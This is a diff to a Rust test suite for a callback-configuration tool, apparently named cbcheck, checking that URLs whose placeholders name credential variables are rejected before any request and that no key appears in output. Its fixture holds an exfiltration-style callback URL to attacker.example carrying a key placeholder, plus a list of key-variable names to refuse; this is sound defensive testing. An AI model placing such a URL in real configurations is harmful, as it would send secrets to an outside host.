@@ -607,9 +607,9 @@ fn a_value_spelt_with_other_percent_escapes_live_is_still_hidden() {
     }
 }
 
-/// A stranger's file can name any variable in its URL: one that holds the app's
-/// credential is refused before any request, so `apply` never makes the admin key
-/// part of a callback URL (stored by the vendor, sent with every event).
+/// A stranger's file can name any variable in its URL: one that holds a credential
+/// makes the file invalid, refused before any request, so `apply` never makes the
+/// admin key part of a callback URL (stored by the vendor, sent with every event).
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_credential_variable_is_never_expanded_into_a_url() {
     let vendor = Vendor::default();
@@ -655,9 +655,17 @@ async fn a_credential_variable_is_never_expanded_into_a_url() {
             .await
             .expect("joins");
         let stderr = String::from_utf8_lossy(&output.stderr);
-        assert_eq!(output.status.code(), Some(3), "{variable}: {stderr}");
+        assert_eq!(output.status.code(), Some(2), "{variable}: {stderr}");
         assert!(stderr.contains(&format!("${{{variable}}}")), "{stderr}");
         assert!(stderr.contains("credential"), "{stderr}");
+        assert!(
+            server
+                .received_requests()
+                .await
+                .unwrap_or_default()
+                .is_empty(),
+            "{variable}: a request was made"
+        );
         let written = vendor.written.lock().expect("lock").clone();
         assert!(
             written
@@ -665,5 +673,207 @@ async fn a_credential_variable_is_never_expanded_into_a_url() {
                 .all(|body| !body.to_string().contains(ADMIN_KEY)),
             "{variable}: the key was sent as part of a URL: {written:?}"
         );
+    }
+}
+
+const KEY_IN_URL: &str = "cbcheck::config::key-in-url";
+
+/// `prod` takes its key from `TRTC_PROD_KEY`; `sandbox`'s URL (line 15, `${` at
+/// column 42) names `variable`.
+fn sandbox_naming(variable: &str) -> String {
+    format!(
+        "\
+version: 1
+defaults:
+  region: singapore
+  identifier: administrator
+apps:
+  - name: prod
+    sdkappid: 1400000001
+    secret_key_env: TRTC_PROD_KEY
+    callback:
+      url: https://hooks.example.com/prod
+      commands: [Room.CallbackAfterCreateRoom]
+  - name: sandbox
+    sdkappid: 1400000002
+    callback:
+      url: https://attacker.example/cb?k=${{{variable}}}
+      commands: [Room.CallbackAfterCreateRoom]
+"
+    )
+}
+
+/// Any variable a key comes from, in any letter case, is refused offline at the
+/// placeholder: another app's `secret_key_env`, cbcheck's own key variables, and the
+/// key sources planned next.
+#[test]
+fn a_placeholder_naming_any_key_source_is_an_error_at_its_column() {
+    for variable in [
+        "TRTC_PROD_KEY",
+        "trtc_prod_key",
+        "Trtc_Prod_Key",
+        "CBCHECK_SECRET_KEY",
+        "cbcheck_secret_key",
+        "CBCHECK_SECRET_KEY_1400000001",
+        "cbcheck_usersig",
+        "CBCHECK_USERSIG_1400000009",
+        "CBCHECK_SECRET_KEYS",
+        "CBCHECK_SECRET_KEYS_FILE",
+        "cbcheck_secret_key_command",
+    ] {
+        let loaded = load(&sandbox_naming(variable));
+        let human = rendered(&loaded);
+        assert_eq!(codes_and_lines(&loaded), [(KEY_IN_URL, 15)], "{human}");
+        assert!(
+            human.contains("callbacks.yaml:15:42"),
+            "{variable}:\n{human}"
+        );
+        assert!(human.contains(&format!("${{{variable}}}")), "{human}");
+        assert!(
+            loaded.config.is_none(),
+            "{variable}: the file must be invalid"
+        );
+    }
+    for fine in ["HOOK_TOKEN", "TRTC_PROD_KEY_ID", "CBCHECK_1400000002_TOKEN"] {
+        let loaded = load(&sandbox_naming(fine));
+        assert!(
+            loaded.diagnostics.is_empty(),
+            "{fine}:\n{}",
+            rendered(&loaded)
+        );
+    }
+    // The app's own variable, whatever its case in the file.
+    let own = sandbox_naming("sandbox_key").replace(
+        "    sdkappid: 1400000002\n",
+        "    sdkappid: 1400000002\n    secret_key_env: SANDBOX_KEY\n",
+    );
+    assert_eq!(codes_and_lines(&load(&own)), [(KEY_IN_URL, 16)]);
+    assert_snapshot!(
+        "placeholder_key_in_url",
+        rendered(&load(&sandbox_naming("trtc_prod_key")))
+    );
+}
+
+/// `prod.yaml` declares the key variable, `sandbox.yaml` names it: lint sees both
+/// files, in either order, and reports the placeholder in the one that names it.
+#[test]
+fn lint_refuses_a_key_variable_declared_in_another_file() {
+    let dir = workdir("key_across_files");
+    let text = sandbox_naming("trtc_prod_key");
+    let (prod, sandbox) = text.split_at(text.find("  - name: sandbox").expect("two apps"));
+    std::fs::write(dir.join("prod.yaml"), prod).expect("write");
+    std::fs::write(
+        dir.join("sandbox.yaml"),
+        format!("version: 1\ndefaults:\n  region: singapore\n  identifier: administrator\napps:\n{sandbox}"),
+    )
+    .expect("write");
+    for files in [["prod.yaml", "sandbox.yaml"], ["sandbox.yaml", "prod.yaml"]] {
+        let output = cbcheck()
+            .current_dir(&dir)
+            .arg("lint")
+            .args(files)
+            .output()
+            .expect("runs");
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{files:?}: {stderr}");
+        assert!(stderr.contains("sandbox.yaml:9:42"), "{files:?}: {stderr}");
+        assert!(stderr.contains("key-in-url"), "{stderr}");
+        assert!(stderr.contains("prod.yaml: valid"), "{stderr}");
+
+        let output = cbcheck()
+            .current_dir(&dir)
+            .args(["lint", "--format", "json"])
+            .args(files)
+            .output()
+            .expect("runs");
+        assert_eq!(output.status.code(), Some(2));
+        let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
+        let found: Vec<_> = report["files"]
+            .as_array()
+            .expect("files")
+            .iter()
+            .flat_map(|f| f["diagnostics"].as_array().cloned().unwrap_or_default())
+            .map(|d| (d["code"].clone(), d["line"].clone(), d["column"].clone()))
+            .collect();
+        assert_eq!(
+            found,
+            [(
+                serde_json::json!(KEY_IN_URL),
+                serde_json::json!(9),
+                serde_json::json!(42)
+            )],
+            "{report:#}"
+        );
+    }
+}
+
+/// verify, apply (with its plans) and export refuse the file before any request:
+/// the fake vendor receives nothing, and the key appears in no output.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_key_variable_in_a_url_stops_every_command_before_any_request() {
+    const PROD_KEY: &str = "9a8b7c6d5e4f30211203f4e5d6c7b8a99a8b7c6d5e4f30211203f4e5d6c7b8a9";
+    let server = wiremock::MockServer::start().await;
+    wiremock::Mock::given(wiremock::matchers::method("POST"))
+        .respond_with(Vendor::default())
+        .mount(&server)
+        .await;
+    let dir = workdir("key_in_url");
+    let text = sandbox_naming("trtc_prod_key");
+    std::fs::write(dir.join("both.yaml"), &text).expect("write");
+    let (prod, sandbox) = text.split_at(text.find("  - name: sandbox").expect("two apps"));
+    std::fs::write(dir.join("prod.yaml"), prod).expect("write");
+    std::fs::write(
+        dir.join("sandbox.yaml"),
+        format!("version: 1\ndefaults:\n  region: singapore\n  identifier: administrator\napps:\n{sandbox}"),
+    )
+    .expect("write");
+    let plan = dir.join("plan.json");
+    let _ = std::fs::remove_file(&plan);
+    for args in [
+        &["verify", "both.yaml"][..],
+        &["verify", "prod.yaml", "sandbox.yaml", "--format", "json"],
+        &["verify", "sandbox.yaml", "prod.yaml", "--app", "sandbox"],
+        &["apply", "prod.yaml", "sandbox.yaml", "--yes"],
+        &[
+            "apply",
+            "both.yaml",
+            "--app",
+            "1400000002",
+            "--yes",
+            "--show-secrets",
+        ],
+        &[
+            "apply",
+            "prod.yaml",
+            "sandbox.yaml",
+            "--dry-run",
+            "--format",
+            "json",
+        ],
+        &["export", "--from", "both.yaml"],
+        &["export", "--from", "both.yaml", "--literal-urls"],
+    ] {
+        let mut cmd = cbcheck();
+        cmd.current_dir(&dir)
+            .args(args)
+            .args(["--endpoint", &server.uri()])
+            .env("TRTC_PROD_KEY", PROD_KEY)
+            .env("trtc_prod_key", PROD_KEY)
+            .env("CBCHECK_SECRET_KEY", ADMIN_KEY);
+        let output = tokio::task::spawn_blocking(move || cmd.output().expect("runs"))
+            .await
+            .expect("joins");
+        let stdout = String::from_utf8_lossy(&output.stdout);
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
+        assert!(stderr.contains("key-in-url"), "{args:?}: {stderr}");
+        for text in [&stdout, &stderr] {
+            assert!(
+                !text.contains(PROD_KEY) && !text.contains(ADMIN_KEY),
+                "{args:?}:\n{text}"
+            );
+        }
+        let received = server.received_requests().await.unwrap_or_default();
+        assert!(received.is_empty(), "{args:?}: {} requests", received.len());
     }
 }
